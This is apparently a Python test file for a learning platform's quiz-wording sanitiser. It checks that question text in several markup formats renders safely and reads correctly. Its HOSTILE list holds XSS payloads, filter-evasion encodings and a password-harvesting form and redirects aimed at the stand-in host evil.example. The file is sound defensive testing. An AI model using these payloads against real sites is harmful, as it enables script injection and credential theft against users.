"""A question's words on a page: a bank comes from many hands, and nothing in it may act."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.quizzes import wording
from lms.quizzes.question import Markup, Words
from tests.quizzes import any_question

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onclick='alert(1)' onmouseover=alert(1)>bold</b>",
    "<p style='position:fixed;inset:0'>over all</p>",
    "<style>body{display:none}</style>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href='JaVa&#x09;Script:alert(1)'>here</a>",
    "<a href=' \x01javascript:alert(1)'>here</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>here</a>",
    "<a href='vbscript:x' target=_top ping=//evil.example>here</a>",
    "<a href='/sign-out'>here</a>",
    "<a href='//evil.example'>here</a>",
    "[here](javascript:alert(1))",
    "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</p></div></main><h1>Signed out</h1>",
    "<!-- <b> --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<b id=question_0 class=btn name=version>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b",
    "<<b>>&#60;script&#62;",
    "{{ config }}{% raw %}",
]
HARMLESS = {*wording.TAGS, "h4", "h5", "h6", "blockquote", "hr",
            "table", "thead", "tbody", "tr", "th", "td"}  # fmt: skip
LEFT = {"href", "rel", "start", "align", "title", "lang"}
CLOSED = HARMLESS - {"br", "hr"}


class Looked(HTMLParser):
    """What a browser would find: tags, attributes, what is left open, what is read."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.open: list[str] = []
        self.read = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]
        self.open += [tag] if tag in CLOSED else []

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.read += data


def harmless(markup: str) -> Looked:
    """Look at it; fail where anything could act or break out."""
    found = Looked(markup)
    assert found.tags <= HARMLESS
    assert found.attributes <= LEFT
    assert all(re.match("(?i)https?://|mailto:", link) for link in found.links), found.links
    assert not found.open
    return found


@pytest.mark.parametrize("markup", Markup)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_acts(text: str, markup: Markup) -> None:
    words = Words(text, markup)
    harmless(wording.block(words))
    assert not harmless(wording.line(words)).tags & {"p", "ul", "ol", "li", "table"}


SHREDS = st.lists(st.sampled_from(HOSTILE) | any_question.LOOSE, max_size=4).map("".join)


@given(st.builds(Words, SHREDS, st.sampled_from(Markup)))
def test_nothing_acts_however_it_is_put_together(words: Words) -> None:
    harmless(wording.block(words))
    harmless(wording.line(words))
    assert "\n" not in wording.plain(words)


# what is meant to be seen


@pytest.mark.parametrize("markup", Markup)
@pytest.mark.parametrize("text", ["x < 5 and y > 3", "a <5 b", "AT&T", 'the "I-94"', "5 <= 6"])
def test_signs_of_a_text_stay_signs(text: str, markup: Markup) -> None:
    words = Words(text, markup)
    assert wording.plain(words) == text
    assert Looked(wording.block(words)).read.strip() == text
    assert Looked(wording.line(words)).read == text


def test_plain_is_plain() -> None:
    words = Words("<b>bold</b> &lt; *star*", Markup.PLAIN)
    assert wording.block(words) == "<p>&lt;b&gt;bold&lt;/b&gt; &amp;lt; *star*</p>"
    assert wording.line(words) == "&lt;b&gt;bold&lt;/b&gt; &amp;lt; *star*"
    assert wording.plain(words) == "<b>bold</b> &lt; *star*"


@pytest.mark.parametrize("markup", [Markup.MOODLE, Markup.HTML])
def test_simple_html_stays(markup: Markup) -> None:
    words = Words("<em>Title</em>, H<sub>2</sub>O and <a href='https://acf.gov'>more</a>", markup)
    for shown in (wording.block(words), wording.line(words)):
        assert '<em>Title</em>, H<sub>2</sub>O and <a href="https://acf.gov"' in shown
    assert wording.plain(words) == "Title, H2O and more"


@pytest.mark.parametrize("markup", [Markup.MOODLE, Markup.HTML])
def test_a_block_is_a_block_once(markup: Markup) -> None:
    for text in ("<p>One.</p><p>Two.</p>", "<ul><li>one</li></ul>", "<ol><li>one</li></ol>"):
        assert wording.block(Words(text, markup)) == text
    assert wording.block(Words("One.", markup)) == "<p>One.</p>"


LINES = {
    Markup.MOODLE: "<p>One<br>two</p>",
    Markup.PLAIN: "<p>One<br>two</p>",
    Markup.HTML: "<p>One\ntwo</p>",
}


@pytest.mark.parametrize("markup", LINES)
def test_lines_are_lines_except_in_html(markup: Markup) -> None:
    assert wording.block(Words("One\ntwo", markup)) == LINES[markup]


@pytest.mark.parametrize("markup", Markup)
def test_read_without_markup_words_stay_apart(markup: Markup) -> None:
    assert wording.plain(Words("One\ntwo\n\nthree", markup)) == "One two three"
    assert "<br" not in wording.line(Words("One\ntwo", markup))


def test_blocks_in_an_answer_become_one_line_with_its_words_apart() -> None:
    for text in ("<p>One.</p><p>Two.</p>", "<ul><li>One.</li><li>Two.</li></ul>"):
        words = Words(text, Markup.HTML)
        assert wording.line(words) == "One. Two."
        assert wording.plain(words) == "One. Two."
    assert wording.plain(Words("One.<br>Two.<BR/>Three.", Markup.HTML)) == "One. Two. Three."


def test_markdown_is_markdown() -> None:
    words = Words("**One**\n\n- two\n- three", Markup.MARKDOWN)
    assert "<strong>One</strong>" in wording.block(words)
    assert "<li>three</li>" in wording.block(words)
    assert wording.plain(words) == "One two three"
    assert wording.line(Words("a *b*", Markup.MARKDOWN)) == "a <em>b</em>"


def test_what_says_nothing_is_empty() -> None:
    for markup in Markup:
        assert wording.line(Words("", markup)) == ""
        assert wording.plain(Words("", markup)) == ""
